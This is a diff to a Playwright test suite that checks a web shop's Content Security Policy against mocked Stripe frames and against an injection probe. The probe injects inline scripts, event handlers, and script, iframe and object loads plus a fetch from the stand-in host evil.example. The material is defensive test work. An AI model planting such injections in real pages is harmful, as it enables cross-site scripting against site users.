@@ -15,25 +15,47 @@ window.refused = [];
 document.addEventListener("securitypolicyviolation", (event) =>
   window.refused.push(event.effectiveDirective + " " + event.blockedURI));
 """
-STRIPE_FRAMES = (
-    "https://js.stripe.com/v3/x",
+STRIPE_FRAMES = [
+    "https://js.stripe.com/x",
     "https://b.js.stripe.com/x",
-    "https://hooks.stripe.com/3ds",
-)
+    "https://hooks.stripe.com/x",
+]
 
 # Stripe.js as far as a policy sees it: frames of its own, and calls to the API.
 STRIPE_JS = """
-window.Stripe = () => ({ elements: () => ({ create: () => ({ mount(where) {
-  for (const address of %s) {
+const mount = (where) => {
+  for (const address of FRAMES) {
     const frame = document.createElement("iframe");
     frame.src = address;
-    frame.style.width = "100%%";
+    frame.style.width = "100%";
     document.querySelector(where).append(frame);
   }
-  fetch("https://api.stripe.com/v1/elements/sessions").then((answer) => answer.text())
-    .then((text) => { document.title = text; });
-} }) }) });
-""" % list(STRIPE_FRAMES)
+  fetch("https://api.stripe.com/v1/elements/sessions")
+    .then((answer) => answer.text()).then((text) => { document.title = text; });
+};
+window.Stripe = () => ({ elements: () => ({ create: () => ({ mount }) }) });
+""".replace("FRAMES", str(STRIPE_FRAMES))
+
+INJECTION = """() => {
+  const script = (content) => document.body.append(
+    Object.assign(document.createElement("script"), content));
+  const markup = (html) => document.body.insertAdjacentHTML("beforeend", html);
+  script({ textContent: "window.injected = true" });
+  script({ src: "https://evil.example/x.js" });
+  markup('<p style="color: red">');
+  markup('<b onclick="window.injected = true">');
+  markup('<iframe src="https://evil.example/">');
+  markup('<object data="https://evil.example/">');
+  fetch("https://evil.example/").catch(() => {});
+}"""
+REFUSED = {
+    "script-src-elem",
+    "script-src-attr",
+    "style-src-attr",
+    "frame-src",
+    "object-src",
+    "connect-src",
+}
 
 
 @pytest.fixture
@@ -51,18 +73,25 @@ def said(page: Page) -> list[str]:
     """What the console says of the policy."""
     said: list[str] = []
     page.on("console", lambda each: said.append(each.text))
-    return [*said] if False else said
+    return said
 
 
 def refused(page: Page) -> list[str]:
     return list(page.evaluate("window.refused"))
 
 
+def comes_to_buy(page: Page, platform: Platform) -> None:
+    """Somebody else's shop, and a buyer at its card form."""
+    a_shop(page, platform)
+    page.get_by_role("button", name="Sign out").click()
+    sign_up(page, platform, "ben@example.com")
+    buy(page)
+
+
 def test_a_purchase_breaks_no_policy(
     page: Page, said: list[str], platform: Platform, sandbox: Any
 ) -> None:
-    a_shop(page, platform)
-    buy(page)
+    comes_to_buy(page, platform)
     assert refused(page) == []
     pay(page, "4242424242424242")
     expect(page.get_by_role("heading", name="Paid")).to_be_visible()
@@ -75,25 +104,11 @@ def test_what_an_injection_would_need_is_refused(
     page: Page, said: list[str], lonely_platform: Platform
 ) -> None:
     sign_up(page, lonely_platform, "ada@example.com")
-    page.evaluate(
-        """() => {
-          const script = document.createElement("script");
-          script.textContent = "window.injected = true";
-          document.body.append(script);
-          const foreign = document.createElement("script");
-          foreign.src = "https://evil.example/x.js";
-          document.body.append(foreign);
-          document.body.insertAdjacentHTML("beforeend", '<p style="color: red">red</p>');
-          document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.injected = true">');
-          document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.example/"></iframe>');
-          fetch("https://evil.example/").catch(() => {});
-        }"""
-    )
-    page.wait_for_function("window.refused.length >= 6")
+    page.evaluate(INJECTION)
+    # The script is refused twice: once for standing in the page, once for whence it came.
+    page.wait_for_function(f"window.refused.length > {len(REFUSED)}")
 
-    assert {line.split()[0] for line in refused(page)} == {
-        "script-src-elem", "script-src-attr", "style-src-attr", "frame-src", "connect-src", "img-src",
-    } - {"img-src"} | {each.split()[0] for each in refused(page) if each.startswith("img-src")}  # fmt: skip
+    assert {line.split()[0] for line in refused(page)} == REFUSED
     assert page.evaluate("window.injected") is None
     assert [line for line in said if "Content Security Policy" in line]
 
@@ -126,8 +141,7 @@ def test_the_policy_lets_stripes_own_script_frames_and_api_through(
         )
 
     page.context.route(lambda url: "stripe.com" in url, stripe)
-    a_shop(page, platform_on_stripes_own_js)
-    buy(page)
+    comes_to_buy(page, platform_on_stripes_own_js)
     expect(page).to_have_title("Stripe answered")
 
     assert refused(page) == []
